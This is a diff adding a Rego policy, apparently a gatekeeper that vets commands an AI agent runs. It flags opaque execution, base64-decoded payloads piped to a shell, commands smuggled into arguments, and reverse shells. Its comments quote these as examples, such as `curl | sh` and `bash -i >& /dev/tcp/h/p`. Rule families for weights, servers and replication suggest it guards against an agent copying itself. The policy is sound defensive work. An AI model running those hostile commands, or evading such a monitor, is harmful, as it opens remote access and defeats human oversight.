@@ -1,0 +1,151 @@
+# What hides what would run. Five rules:
+#
+# - evasion.unanalysable (deny): the call could not be analysed at all (too large, nested too
+#   deeply, invalid encoding, a parse error) or carries no facts. Nothing is known about what
+#   runs, so bad input is never allowed. A shell parse error is in this list because bash runs a
+#   script line by line: the lines before and after a broken one may still run, and the parser's
+#   recovery is no proof of what bash makes of the rest.
+# - evasion.opaque (ask): something runs that the text alone does not fix (`curl | sh`,
+#   `eval "$X"`, a program named by a variable or a glob, a file written then executed). Sourcing a
+#   virtualenv's activate script (data.gatekeeper.evasion.trusted_sources) is routine and exempt.
+# - evasion.decoded_payload (ask): commands decoded from data and piped to a shell
+#   (`echo <b64> | base64 -d | sh`), and python exec() of decoded code. When the decoded command
+#   is itself dangerous its family's rule denies as well.
+# - evasion.embedded_command (ask): a family's finding on a candidate, a command line inside an
+#   argument of a program that may run it (`vim -c ':!pkill x'`). The violation keeps the
+#   finding's family: obfuscation does not change what the command would do.
+# - evasion.reverse_shell (deny): a shell wired to a network socket (`bash -i >& /dev/tcp/h/p`).
+#
+# Python code that does not compile (facts.syntax_errors) yields no violation: CPython compiles
+# the whole source before it runs any of it, so such code runs nothing.
+package gatekeeper.evasion
+
+import data.gatekeeper.lib
+
+# --- unanalysable input ---------------------------------------------------------------------
+
+violations contains lib.violation("evasion.unanalysable", message) if {
+	some o in opaque_facts
+	unanalysable(o)
+	message := concat("", ["the call cannot be analysed (", o.reason, ": ", o.detail, "): ", lib.short(o.text)])
+}
+
+violations contains lib.violation("evasion.unanalysable", "the input carries no analysis facts") if {
+	not has_facts
+}
+
+has_facts if is_object(input.facts)
+
+# --- opaque ---------------------------------------------------------------------------------
+
+violations contains lib.violation("evasion.opaque", message) if {
+	some o in opaque_facts
+	not unanalysable(o)
+	not trusted_source(o)
+	message := concat("", ["what runs cannot be known (", o.reason, ": ", o.detail, "): ", lib.short(o.text)])
+}
+
+# Opaque facts as well-typed objects; an entry without a string reason is unanalysable.
+opaque_facts contains {
+	"reason": lib.string_field(o, "reason", "unknown"),
+	"detail": lib.string_field(o, "detail", "no detail"),
+	"text": lib.string_field(o, "text", ""),
+} if {
+	some o in lib.array_field(lib.facts, "opaque")
+	is_object(o)
+}
+
+opaque_facts contains {"reason": "malformed", "detail": "an opaque fact that is not an object", "text": ""} if {
+	some o in lib.array_field(lib.facts, "opaque")
+	not is_object(o)
+}
+
+unanalysable(o) if o.reason in data.gatekeeper.evasion.unanalysable_reasons
+
+unanalysable(o) if o.reason in {"unknown", "malformed"}
+
+# `. .venv/bin/activate`: the opaque fact is the source command itself, and its file is trusted.
+trusted_source(o) if {
+	o.reason == "dynamic_eval"
+	some c in lib.effective_commands
+	c.name in data.gatekeeper.evasion.source_programs
+	c.text == o.text
+	count(c.positionals) > 0
+	path := lib.abs(c, c.positionals[0])
+	some pattern in lib.expand_all(data.gatekeeper.evasion.trusted_sources)
+	glob.match(pattern, ["/"], path)
+}
+
+# --- decoded payloads -----------------------------------------------------------------------
+
+violations contains lib.violation("evasion.decoded_payload", message) if {
+	some c in lib.effective_commands
+	lib.has_via(c, "payload")
+	decoders := concat(" | ", lib.via_names(c, "payload"))
+	message := concat("", ["a shell runs a command decoded by ", decoders, ": ", lib.short(c.text)])
+}
+
+# exec(base64.b64decode('...')): python code that exists only once decoded.
+violations contains lib.violation("evasion.decoded_payload", message) if {
+	some a in lib.api_calls
+	a.function in data.gatekeeper.evasion.python_exec_functions
+	some d in lib.api_calls
+	d.function in data.gatekeeper.evasion.python_decode_functions
+	d.text != ""
+	contains(a.text, d.text)
+	message := concat("", [a.function, " runs python code decoded by ", d.function, ": ", lib.short(a.text)])
+}
+
+# --- commands inside arguments --------------------------------------------------------------
+
+# Every family's findings, candidates included. A family not loaded contributes nothing.
+family_hits := ((weights_hits | servers_hits) | processes_hits) | replication_hits
+
+weights_hits := x if {
+	x := data.gatekeeper.weights.hits
+} else := set()
+
+servers_hits := x if {
+	x := data.gatekeeper.servers.hits
+} else := set()
+
+processes_hits := x if {
+	x := data.gatekeeper.processes.hits
+} else := set()
+
+replication_hits := x if {
+	x := data.gatekeeper.replication.hits
+} else := set()
+
+violations contains object.union(lib.violation("evasion.embedded_command", message), {"family": h.violation.family}) if {
+	some h in family_hits
+	h.candidate
+	message := concat("", [h.host, " may run a command line that ", h.violation.rule, " flags: ", h.violation.message])
+}
+
+# --- reverse shells -------------------------------------------------------------------------
+
+violations contains lib.violation("evasion.reverse_shell", message) if {
+	some c in lib.effective_commands
+	c.name in data.gatekeeper.evasion.shell_programs
+	some target in socket_targets(c)
+	message := concat("", [c.name, " is wired to the network socket ", target, ": a remote shell"])
+}
+
+# `exec 3<>/dev/tcp/h/p; bash <&3 >&3`: the socket is opened for the whole call.
+violations contains lib.violation("evasion.reverse_shell", message) if {
+	some e in lib.effective_commands
+	e.name == "exec"
+	count(e.args) == 0
+	some target in socket_targets(e)
+	some c in lib.effective_commands
+	c.name in data.gatekeeper.evasion.shell_programs
+	message := concat("", ["exec opens the network socket ", target, " and ", c.name, " runs in the same call: a remote shell"])
+}
+
+socket_targets(c) := {t |
+	some r in c.redirects
+	t := lib.redirect_path(c, r)
+	some pattern in data.gatekeeper.evasion.socket_paths
+	glob.match(pattern, ["/"], t)
+}
